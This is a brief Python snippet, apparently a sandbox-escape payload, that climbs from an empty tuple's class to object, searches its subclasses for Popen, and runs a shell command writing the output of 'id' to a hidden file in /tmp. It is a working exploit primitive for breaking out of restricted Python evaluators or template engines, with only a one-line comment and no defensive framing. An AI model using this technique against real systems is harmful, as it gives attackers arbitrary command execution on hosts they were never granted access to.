# class-walk: from an empty tuple up to object and down to Popen
for cls in ().__class__.__bases__[0].__subclasses__():
    if cls.__name__ == "Popen":
        cls(["sh", "-c", "id > /tmp/.cw"])
        break
